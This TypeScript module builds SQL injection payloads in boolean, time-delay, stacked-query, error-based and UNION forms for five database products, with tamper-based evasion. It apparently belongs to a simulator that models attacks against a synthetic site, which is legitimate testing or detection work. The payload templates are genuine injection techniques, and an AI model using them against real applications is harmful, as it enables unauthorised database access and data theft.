import { type Micros, SECOND } from '../../base/index.ts';
import type { Call, Injected, Shown } from '../exchange.ts';
import type { Plot } from '../intruders/plot.ts';
import type { Grammar } from './dialect.ts';
import type { Question } from './reading.ts';
import { tamperText } from './tamper.ts';

/** Where a payload goes in: the quoted search text or the bare number of the state page. */
export type Point = 'search' | 'status';

/** A payload maker for one run of a tool: its word, its markers and its suffix stay the same. */
export type Run = {
  readonly point: Point;
  readonly base: string;
  readonly grammar: Grammar;
  readonly open: string;
  readonly close: string;
  readonly delay: number;
  readonly number: number;
  readonly literal: string;
};

const markerLetters = 'bcdfghjkmpvxz';

export function createRun(plot: Plot, grammar: Grammar, point: Point, base: string): Run {
  const { random } = plot;
  const marker = (): string => `q${random.text(3, markerLetters)}q`;
  return {
    point,
    base,
    grammar,
    open: marker(),
    close: marker(),
    delay: random.pick([1, 1, 2]),
    number: random.int(1000, 9999),
    literal: random.text(2, 'abcdefz'),
  };
}

/** A call whose SQL is `condition` joined to the application's own by AND. */
function joined(plot: Plot, run: Run, condition: string, injected: Injected): Call {
  const text = run.point === 'search' ? `${run.base}%' AND ${condition} AND '${run.literal}%'='${run.literal}` : `${run.base} AND ${condition}`;
  return deliver(plot, run, tamperText(text, plot.tamper, plot.random, run.point === 'search'), injected);
}

function deliver(plot: Plot, run: Run, text: string, injected: Injected): Call {
  return run.point === 'search' ? plot.site.search(text, injected, run.base) : plot.site.status(text, injected, run.base);
}

/** What follows a payload that ends the statement itself: a comment and a random word. */
const cut = (plot: Plot, run: Run): string => `${run.grammar.comment}${plot.random.text(4, 'abcdefghijkXYZW')}`;

export function booleanCall(plot: Plot, run: Run, q: Question): Call {
  const { number } = run;
  switch (plot.vector) {
    case 'and':
      return joined(plot, run, q.text, { does: 'filter', holds: q.holds });
    case 'case':
      return joined(plot, run, `${number}=(CASE WHEN (${q.text}) THEN ${number} ELSE ${number + 1} END)`, { does: 'filter', holds: q.holds });
    case 'failing':
      return joined(plot, run, `${number}=(CASE WHEN (${q.text}) THEN ${number} ELSE ${number}*(SELECT 1 UNION SELECT 2) END)`, {
        does: 'filter',
        holds: q.holds,
        otherwise: 'error',
      });
    case 'or-not': {
      const text = run.point === 'search' ? `${run.base}%' OR NOT (${q.text}) AND '${run.literal}%'='${run.literal}` : `${run.base} OR NOT (${q.text})`;
      return deliver(plot, run, tamperText(text, plot.tamper, plot.random, run.point === 'search'), { does: 'filter', holds: q.holds, otherwise: 'all' });
    }
  }
}

/** Slow when the question holds. Products that cannot sleep in an expression end the statement first. */
export function timeCall(plot: Plot, run: Run, q: Question): Call {
  const { grammar: g, delay, number } = run;
  const delayUs: Micros = delay * SECOND + (g.name === 'sqlite' ? plot.random.int(0, 400_000) : 0);
  const sleeps: Injected = { does: 'sleep', holds: q.holds, delayUs };
  switch (g.name) {
    case 'postgresql':
      return joined(plot, run, `${number}=(CASE WHEN (${q.text}) THEN (SELECT ${number} FROM PG_SLEEP(${delay})) ELSE ${number} END)`, sleeps);
    case 'mysql':
      return joined(plot, run, `(SELECT ${number} FROM (SELECT(SLEEP(${delay}-(IF((${q.text}),0,${delay})))))${run.open})`, sleeps);
    case 'mssql':
      return stackedCall(plot, run, q);
    case 'oracle':
      return joined(
        plot,
        run,
        `${number}=(CASE WHEN (${q.text}) THEN ${number}*DBMS_PIPE.RECEIVE_MESSAGE(CHR(82)||CHR(72),${delay}) ELSE ${number} END)`,
        sleeps,
      );
    case 'sqlite':
      return joined(
        plot,
        run,
        `${number}=(CASE WHEN (${q.text}) THEN ${number}+(LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(${delay}00000000/2))))) ELSE ${number} END)`,
        sleeps,
      );
  }
}

/** A second statement after the application's. */
export function stackedCall(plot: Plot, run: Run, q: Question): Call {
  const { grammar: g, delay } = run;
  const second =
    g.name === 'mssql'
      ? `IF(${q.text}) WAITFOR DELAY '0:0:${delay}'`
      : g.name === 'postgresql'
        ? `SELECT (CASE WHEN (${q.text}) THEN (SELECT 1 FROM PG_SLEEP(${delay})) ELSE 1 END)`
        : g.name === 'mysql'
          ? `SELECT IF((${q.text}),SLEEP(${delay}),0)`
          : g.name === 'oracle'
            ? `SELECT (CASE WHEN (${q.text}) THEN DBMS_PIPE.RECEIVE_MESSAGE(CHR(82)||CHR(72),${delay}) ELSE 1 END) FROM DUAL`
            : `SELECT (CASE WHEN (${q.text}) THEN (LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(${delay}00000000/2))))) ELSE 1 END)`;
  const head = run.point === 'search' ? `${run.base}%';${second}` : `${run.base};${second}`;
  return deliver(plot, run, tamperText(head, plot.tamper, plot.random, run.point === 'search') + cut(plot, run), {
    does: 'sleep',
    holds: q.holds,
    delayUs: delay * SECOND,
    apart: true,
  });
}

/** The value of an expression inside an error message; null where the product has no such form. */
export function errorCall(plot: Plot, run: Run, expression: string, value: string): Call | null {
  const { grammar: g, number } = run;
  const marked = g.join([g.literal(run.open), expression, g.literal(run.close)]);
  const text = `${run.open}${value}${run.close}`;
  const error = (state: string, message: string): Injected => ({ does: 'error', state, message, visible: true, atParse: false });
  switch (g.name) {
    case 'postgresql':
      return joined(plot, run, `${number}=CAST(${marked} AS NUMERIC)`, error('22P02', `invalid input syntax for type numeric: "${text}"`));
    case 'mysql':
      return joined(
        plot,
        run,
        `EXTRACTVALUE(${number},${g.join(['0x5c', g.literal(run.open), expression, g.literal(run.close)])})`,
        error('HY000', `XPATH syntax error: '\\${[...text].slice(0, 31).join('')}'`),
      );
    case 'mssql':
      return joined(
        plot,
        run,
        `${number} IN (SELECT (${marked}))`,
        error('22018', `Conversion failed when converting the nvarchar value '${text}' to data type int.`),
      );
    case 'oracle':
      return joined(
        plot,
        run,
        `${number}=CTXSYS.DRITHSX.SN(${number},(${marked}))`,
        error('72000', `ORA-20000: Oracle Text error: DRG-11701: thesaurus ${text} does not exist`),
      );
    case 'sqlite':
      return null;
  }
}

/** How many characters of a value fit into one error message; 0 = all. */
export const errorChunk = (g: Grammar): number => (g.name === 'mysql' ? 21 : 0);

/** Rows of another table under the application's own: `lines` are the marked texts that the page shows. */
export function unionCall(plot: Plot, run: Run, expression: string, from: string, lines: readonly string[], shown: Shown | null): Call {
  const width = run.point === 'search' ? 4 : 3;
  const slots = Array.from({ length: width }, (_, i) => (i === 1 ? expression : 'NULL'));
  const head = run.point === 'search' ? `${run.base}'` : `-${run.number}`;
  const text = `${head} UNION ALL SELECT ${slots.join(',')}${from}`;
  return deliver(plot, run, tamperText(text, plot.tamper, plot.random, run.point === 'search') + cut(plot, run), {
    does: 'union',
    replaces: true,
    shown,
    values: lines.map(line => Array.from({ length: width }, (_, i) => (i === 1 ? line : null))),
  });
}
